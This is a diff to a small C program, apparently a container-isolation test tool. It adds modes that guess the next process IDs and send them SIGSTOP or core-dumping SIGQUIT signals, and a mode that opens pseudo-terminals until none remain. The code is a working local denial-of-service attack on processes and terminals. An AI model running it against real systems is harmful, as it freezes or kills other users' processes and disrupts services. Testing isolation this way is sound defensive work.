@@ -1,6 +1,6 @@
 /*
- * What a user in a container may try against its first process: attack stop [SECONDS] stops each new process of the user, since the
- * next processes get the next pids.
+ * What a user in a container may try against its first process, for so many seconds: "attack stop SECONDS" stops each new process of
+ * the user, since the next processes get the next pids; "quit" ends them by a signal that dumps core; "ptys" takes all terminals.
  */
 #include <fcntl.h>
 #include <signal.h>
@@ -11,7 +11,7 @@
 
 enum { AHEAD = 64 };
 
-static void stop_next(double seconds) {
+static void signal_next(int signal, double seconds) {
     double end = (double)time(NULL) + seconds;
     int self = getpid();
     while ((double)time(NULL) < end) {
@@ -21,13 +21,21 @@ static void stop_next(double seconds) {
         if (fd >= 0) close(fd);
         for (int round = 0; round < 20; round++)
             for (int pid = newest + 1; pid <= newest + AHEAD; pid++)
-                if (pid != self) kill(pid, SIGSTOP);
+                if (pid != self) kill(pid, signal);
     }
+}
+
+static void take_terminals(unsigned seconds) {
+    static const char full[] = "full\n";
+    while (open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) {}
+    if (write(STDOUT_FILENO, full, sizeof full - 1) > 0) sleep(seconds);
 }
 
 int main(int argc, char **argv) {
     double seconds = argc > 2 ? atof(argv[2]) : 10;
-    if (argc > 1 && !strcmp(argv[1], "stop")) stop_next(seconds);
+    if (argc > 1 && !strcmp(argv[1], "stop")) signal_next(SIGSTOP, seconds);
+    else if (argc > 1 && !strcmp(argv[1], "quit")) signal_next(SIGQUIT, seconds);
+    else if (argc > 1 && !strcmp(argv[1], "ptys")) take_terminals((unsigned)seconds);
     else return 2;
     return 0;
 }
